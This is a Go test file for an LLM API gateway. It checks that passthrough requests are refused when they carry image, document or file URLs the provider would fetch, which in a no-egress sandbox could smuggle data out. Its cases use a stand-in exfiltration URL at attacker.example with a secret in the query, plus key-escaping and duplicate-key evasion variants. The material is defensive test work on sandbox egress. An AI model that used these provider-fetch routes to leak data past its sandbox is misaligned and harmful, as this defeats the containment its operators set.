package gateway

import (
	"encoding/json"
	"strings"
	"testing"
)

// postPassthrough sends body to a passthrough gateway of dialect d (with
// or without ProviderNetwork) at its route, and gives the status, the
// gateway's answer and the bodies the provider got.
func postPassthrough(t *testing.T, d Dialect, network bool, body string) (int, string, []string) {
	t.Helper()
	url, got := capturingUpstream(t)
	gw := startGateway(t, "", Options{ProviderNetwork: network, Upstream: Upstream{Kind: UpstreamPassthrough, URL: url, Dialect: d}})
	var path string
	var headers map[string]string
	switch d {
	case DialectAnthropic:
		path, headers = "/v1/messages", gw.anthropicHeaders()
	case DialectGemini:
		path = "/v1beta/models/g:generateContent?key=" + gw.Key()
	case DialectResponses:
		path, headers = "/v1/responses", gw.bearer()
	default:
		path, headers = "/v1/chat/completions", gw.bearer()
	}
	status, out := gw.post(t, path, headers, json.RawMessage(body))
	_, bodies := got()
	return status, string(out), bodies
}

// TestPassthroughRefusesContentTheProviderFetches: a sandboxed harness
// without egress could have the provider fetch a URL of its choosing
// (with data in it) and read the answer, through content the provider
// fetches by URL: an Anthropic image or document with a url source (in a
// message or a tool result), Chat Completions' image_url, Responses'
// input_image and input_file URLs, Gemini's fileData. Such a request is
// refused (400, naming where); the provider gets nothing. The controls:
// the same request with the content inline (a data: URL) goes, and with
// ProviderNetwork (egress host, process isolation) the URL goes too.
func TestPassthroughRefusesContentTheProviderFetches(t *testing.T) {
	const evil = "https://attacker.example/x?secret=s3"
	anthropicImage := `{"type":"image","source":{"type":"url","url":%q}}`
	cases := []struct {
		name    string
		dialect Dialect
		body    string // with %[1]q for the URL
		where   string
	}{
		{"anthropic image", DialectAnthropic, `{"model":"c","max_tokens":9,"messages":[{"role":"user","content":[{"type":"text","text":"look"},` + anthropicImage + `]}]}`,
			"messages[0].content[1].source.url"},
		{"anthropic document in a tool result", DialectAnthropic, `{"model":"c","max_tokens":9,"messages":[{"role":"user","content":[{"type":"tool_result","tool_use_id":"t","content":[{"type":"document","source":{"type":"url","url":%q}}]}]}]}`,
			"messages[0].content[0].content[0].source.url"},
		{"anthropic second url member", DialectAnthropic, `{"model":"c","max_tokens":9,"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","URL":%q,"url":"data:image/png;base64,AA=="}}]}]}`,
			"messages[0].content[0].source.URL"},
		{"anthropic escaped key", DialectAnthropic, `{"model":"c","max_tokens":9,"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","\u0075rl":%q}}]}]}`,
			"messages[0].content[0].source.url"},
		{"chat image_url", DialectChat, `{"model":"g","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":%q}}]}]}`,
			"messages[0].content[0].image_url.url"},
		{"responses input_image", DialectResponses, `{"model":"g","input":[{"role":"user","content":[{"type":"input_image","image_url":%q}]}]}`,
			"input[0].content[0].image_url"},
		{"responses input_file", DialectResponses, `{"model":"g","input":[{"role":"user","content":[{"type":"input_file","file_url":%q}]}]}`,
			"input[0].content[0].file_url"},
		{"gemini fileData", DialectGemini, `{"contents":[{"role":"user","parts":[{"fileData":{"mimeType":"text/html","fileUri":%q}}]}]}`,
			"contents[0].parts[0].fileData.fileUri"},
		{"gemini file in a function response", DialectGemini, `{"contents":[{"role":"user","parts":[{"functionResponse":{"name":"f","response":{},"parts":[{"file_data":{"file_uri":%q}}]}}]}]}`,
			"contents[0].parts[0].functionResponse.parts[0].file_data.file_uri"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			body := strings.ReplaceAll(c.body, "%q", `"`+evil+`"`)
			status, out, bodies := postPassthrough(t, c.dialect, false, body)
			if status != 400 || len(bodies) != 0 || !strings.Contains(out, c.where) || !strings.Contains(out, "network.egress") {
				t.Errorf("status %d, the provider got %d bodies, answer %s; want 400 naming %s and nothing sent", status, len(bodies), out, c.where)
			}
			inline := strings.ReplaceAll(c.body, "%q", `"data:image/png;base64,AA=="`)
			if status, out, bodies := postPassthrough(t, c.dialect, false, inline); status != 200 || len(bodies) != 1 || !jsonEqual(bodies[0], inline) {
				t.Errorf("control, the content inline: status %d (%s), the provider got %q", status, out, bodies)
			}
			if status, out, bodies := postPassthrough(t, c.dialect, true, body); status != 200 || len(bodies) != 1 || !jsonEqual(bodies[0], body) {
				t.Errorf("control, ProviderNetwork: status %d (%s), the provider got %q", status, out, bodies)
			}
		})
	}
}

// TestPassthroughKeepsURLsTheProviderDoesNotFetch: a URL in a tool call's
// arguments (Claude Code's WebFetch tool_use input, a Gemini functionCall),
// in a Gemini function's response, in citations, in a tool's schema, in a
// message's text (the whole of it too), a tool's output or a system prompt
// is not fetched by the provider, and the request goes as sent; so does a
// shell tool that runs on the agent's side.
func TestPassthroughKeepsURLsTheProviderDoesNotFetch(t *testing.T) {
	for _, c := range []struct {
		dialect Dialect
		body    string
	}{
		{DialectAnthropic, `{"model":"c","max_tokens":9,"messages":[{"role":"assistant","content":[{"type":"tool_use","id":"t","name":"WebFetch","input":{"url":"https://example.com","prompt":"read"}}]}]}`},
		{DialectAnthropic, `{"model":"c","max_tokens":9,"messages":[{"role":"assistant","content":[{"type":"text","text":"see https://example.com","citations":[{"type":"web_search_result_location","url":"https://example.com"}]}]}],"tools":[{"name":"fetch","input_schema":{"type":"object","examples":[{"url":"https://example.com"}]}}]}`},
		{DialectGemini, `{"contents":[{"role":"model","parts":[{"functionCall":{"name":"fetch","args":{"url":"https://example.com"}}}]},{"role":"user","parts":[{"functionResponse":{"name":"fetch","response":{"url":"https://example.com","output":"ok"}}}]}]}`},
		{DialectChat, `{"model":"g","messages":[{"role":"user","content":"fetch https://example.com"},{"role":"assistant","tool_calls":[{"id":"c","type":"function","function":{"name":"fetch","arguments":"{\"url\":\"https://example.com\"}"}}]}]}`},
		{DialectResponses, `{"model":"g","input":[{"type":"function_call","call_id":"c","name":"fetch","arguments":"{\"url\":\"https://example.com\"}"},{"role":"user","content":[{"type":"input_image","image_url":"data:image/png;base64,AA=="}]}]}`},
		// A message, a tool's output or a system prompt that is a bare URL is words.
		{DialectAnthropic, `{"model":"c","max_tokens":9,"system":"https://example.com/rules","stop_sequences":["https://stop.example"],"messages":[{"role":"user","content":"https://github.com/a/b"},{"role":"user","content":[{"type":"text","text":"https://github.com/a/b"},{"type":"tool_result","tool_use_id":"t","content":"https://example.com/out"},{"type":"search_result","source":"https://example.com/a","title":"a","content":[{"type":"text","text":"x"}]}]}]}`},
		{DialectChat, `{"model":"g","messages":[{"role":"user","content":"https://github.com/a/b"},{"role":"tool","tool_call_id":"c","content":"https://example.com/out"},{"role":"user","content":[{"type":"text","text":"https://github.com/a/b"}]}]}`},
		{DialectResponses, `{"model":"g","instructions":"https://example.com/rules","input":[{"role":"user","content":[{"type":"input_text","text":"https://github.com/a/b"}]},{"type":"function_call_output","call_id":"c","output":"https://example.com/out"}],"tools":[{"type":"shell","environment":{"type":"local"}},{"type":"local_shell"}]}`},
		// OpenCode's MCP resource as a file part: its filename is the
		// resource's URI, its data inline; a metadata map naming a URL.
		{DialectChat, `{"model":"g","messages":[{"role":"user","content":[{"type":"file","file":{"filename":"file:///tmp/report.pdf","file_data":"data:application/pdf;base64,AA=="}},{"type":"text","text":"x","metadata":"https://example.com","intermediate":"https://example.com"}]}]}`},
		// Codex's history: the model's shell calls (a URL in the command and an
		// environment variable named like content) and their output.
		{DialectResponses, `{"model":"g","input":[{"role":"user","content":"run"},{"type":"local_shell_call","call_id":"c","status":"completed","action":{"type":"exec","command":["curl","https://example.com"],"env":{"IMAGE_URL":"https://example.com/i.png"}}},{"type":"local_shell_call_output","call_id":"c","output":"https://example.com/redirected"},{"type":"shell_call","call_id":"d","action":{"commands":["git clone https://example.com/r"]}},{"type":"shell_call_output","call_id":"d","output":[{"stdout":"https://example.com/r\n","stderr":"","outcome":{"type":"exit","exit_code":0}}]}]}`},
		{DialectGemini, `{"systemInstruction":{"parts":[{"text":"https://example.com/rules"}]},"contents":[{"role":"user","parts":[{"text":"https://github.com/a/b"}]}]}`},
	} {
		if status, out, bodies := postPassthrough(t, c.dialect, false, c.body); status != 200 || len(bodies) != 1 || !jsonEqual(bodies[0], c.body) {
			t.Errorf("%s: status %d (%s), the provider got %q; want it as sent", c.dialect, status, out, bodies)
		}
	}
}

// mediaKey reads a key's words, in snake, kebab or camel case: content
// keys are those with a word of content and not ending in "name".
func TestMediaKey(t *testing.T) {
	for key, want := range map[string]bool{
		"url": true, "image_url": true, "fileUri": true, "file_data": true, "file_id": true, "audio_url": true,
		"document_url": true, "video": true, "data": true, "sourceUri": true, "FILE-DATA": true,
		"filename": false, "fileName": false, "file_name": false, "metadata": false, "intermediate": false,
		"text": false, "command": false, "stdout": false, "": false,
	} {
		if got := mediaKey(key); got != want {
			t.Errorf("mediaKey(%q) = %v, want %v", key, got, want)
		}
	}
}
